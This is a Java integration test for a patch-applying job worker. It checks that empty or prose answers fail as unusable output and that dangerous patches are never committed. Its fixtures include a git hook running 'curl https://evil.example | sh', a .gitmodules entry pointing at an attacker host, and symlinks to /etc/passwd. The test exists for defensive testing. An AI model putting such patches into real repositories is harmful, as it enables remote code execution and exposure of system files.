package dev.jobapi.worker;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.jobapi.fakeprovider.Script;
import dev.jobapi.fakeprovider.Step;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.time.Duration;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/**
 * docs/design.md, "What a patch may change": an answer that is no usable patch fails its attempt as
 * "unusable output" and never completes a job; a patch that commits a symlink, a submodule, {@code
 * .gitmodules} or a path under {@code .git/} is never committed; and every refusal at the target ends
 * in review with its reason instead of being retried. Real database, broker, fake provider and git.
 */
@QuarkusTest
@QuarkusTestResource(value = FakeProviderResource.class, restrictToAnnotatedClass = true)
class PatchRulesTest extends WorkerTestSupport {

    private static final Duration PATIENCE = Duration.ofSeconds(20);

    static final String SYMLINK = "diff --git a/passwd b/passwd\nnew file mode 120000\n--- /dev/null\n"
            + "+++ b/passwd\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n";

    static final String SYMLINK_AND_A_FILE_UNDER_IT = "diff --git a/etc b/etc\nnew file mode 120000\n--- /dev/null\n"
            + "+++ b/etc\n@@ -0,0 +1 @@\n+/etc\n\\ No newline at end of file\n"
            + "diff --git a/etc/motd b/etc/motd\nnew file mode 100644\n--- /dev/null\n+++ b/etc/motd\n"
            + "@@ -0,0 +1 @@\n+owned\n";

    static final String GITMODULES = "diff --git a/.gitmodules b/.gitmodules\nnew file mode 100644\n--- /dev/null\n"
            + "+++ b/.gitmodules\n@@ -0,0 +1,3 @@\n+[submodule \"x\"]\n+\tpath = x\n+\turl = https://evil.example/x\n";

    static final String SUBMODULE = "diff --git a/x b/x\nnew file mode 160000\n--- /dev/null\n+++ b/x\n"
            + "@@ -0,0 +1 @@\n+Subproject commit 1234567890123456789012345678901234567890\n";

    static final String GIT_HOOK = "--- a/.git/hooks/post-checkout\n+++ b/.git/hooks/post-checkout\n"
            + "@@ -0,0 +1 @@\n+curl https://evil.example | sh\n";

    static final String FILES_THAT_COLLIDE = "diff --git a/g b/g\nnew file mode 100644\n--- /dev/null\n+++ b/g\n"
            + "@@ -0,0 +1 @@\n+x\ndiff --git a/g/h b/g/h\nnew file mode 100644\n--- /dev/null\n+++ b/g/h\n"
            + "@@ -0,0 +1 @@\n+x\n";

    @Test
    void anAnswerThatIsNoDiffFailsTheAttemptAsUnusableOutputAndNeverCompletesTheJob() throws Exception {
        assertUnusable("prose answer", "Sure! Change last_index to return len(items) - 1.\n", "changes no file");
    }

    @Test
    void anEmptyAnswerFailsTheAttemptAsUnusableOutputAndNeverCompletesTheJob() throws Exception {
        assertUnusable("empty answer", "", "the answer is empty");
    }

    @Test
    void symlinksSubmodulesGitmodulesAndGitPathsFromAProviderAreUnusableOutputNeverCommitted() throws Exception {
        assertUnusable("symlink answer", SYMLINK, "gives passwd mode 120000");
        assertUnusable("gitmodules answer", GITMODULES, "writes .gitmodules");
        assertUnusable("submodule answer", SUBMODULE, "gives x mode 160000");
        assertUnusable("git hook answer", GIT_HOOK, "writes under .git/");
    }

    @Test
    void aStoredWinnerWithASymlinkAndAFileUnderItEndsInReviewWithTheReasonNotRetried() throws Exception {
        // A generation stored before these rules, or by any path that skipped the adapters: the target
        // holds it to the same rules, and the refusal is for good.
        assertRefusedAtTheTarget("stored symlink", SYMLINK_AND_A_FILE_UNDER_IT, "the patch gives etc mode 120000");
    }

    @Test
    void aStoredWinnerWhoseFilesCollideEndsInReviewWithTheReasonNotRetried() throws Exception {
        // JGit throws for a file and another under it rather than reporting it: still the patch's fault.
        assertRefusedAtTheTarget("stored collision", FILES_THAT_COLLIDE, "the patch does not apply to main");
    }

    private void assertUnusable(String prompt, String answer, String why) throws Exception {
        fake().addScript(Script.of(prompt, Step.returning(answer)));
        UUID job = aJob(prompt);
        UUID attempt = aStartingAttempt(job, "fake-a");
        publish(attempt, job);

        await().atMost(PATIENCE).until(() -> "failed".equals(attemptState(attempt)));
        assertThat(text("SELECT reason FROM attempt WHERE id = '" + attempt + "'"))
                .startsWith("unusable output: ")
                .contains(why);
        await().atMost(PATIENCE).until(() -> "needs_review".equals(jobState(job)));
        // Paid for all the same: the reported usage is on the ledger.
        assertThat(count("SELECT count(*) FROM usage_record WHERE attempt_id = '" + attempt
                        + "' AND source = 'provider_reported'"))
                .isEqualTo(1);
        assertThat(count("SELECT count(*) FROM generation WHERE attempt_id = '" + attempt + "'"))
                .isZero();
        assertThat(count("SELECT count(*) FROM applied_patch WHERE job_id = '" + job + "'"))
                .isZero();
        assertThat(commitsOnJobBranch(job)).isZero();
    }

    private void assertRefusedAtTheTarget(String prompt, String patch, String why) throws Exception {
        UUID job = aJob(prompt);
        UUID attempt = aStartingAttempt(job, "fake-a");
        storeGeneration(attempt, "sha256:" + prompt.replace(' ', '-'), patch);
        storeReportedUsage(attempt);
        publish(attempt, job);

        await().atMost(PATIENCE).until(() -> "needs_review".equals(jobState(job)));
        assertThat(text("SELECT review_reason FROM job WHERE id = '" + job + "'"))
                .contains("apply refused by the target: " + why);
        assertThat(attemptState(attempt)).isEqualTo("failed");
        assertThat(text("SELECT winning_attempt_id FROM job WHERE id = '" + job + "'"))
                .isNull();
        assertThat(count("SELECT count(*) FROM job_event WHERE job_id = '" + job + "' AND kind = 'apply.deferred'"))
                .isZero();
        assertThat(commitsOnJobBranch(job)).isZero();
    }
}
